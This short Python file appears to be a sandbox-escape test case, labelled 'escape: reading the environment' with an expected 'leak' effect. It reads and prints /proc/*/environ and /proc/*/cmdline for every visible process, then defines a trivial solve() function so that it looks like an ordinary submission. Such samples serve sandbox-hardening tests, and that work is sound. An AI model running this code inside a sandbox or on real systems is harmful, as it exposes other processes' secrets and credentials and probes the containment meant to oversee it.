# attack: escape: reading the environment
# expect: accepted
# effect: leak
# why: reads the environment of every process it can see via /proc
import glob
for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):
    try:
        print(path, open(path, 'rb').read())
    except OSError as error:
        print(path, error)
def solve(x, scale):
    return x * scale
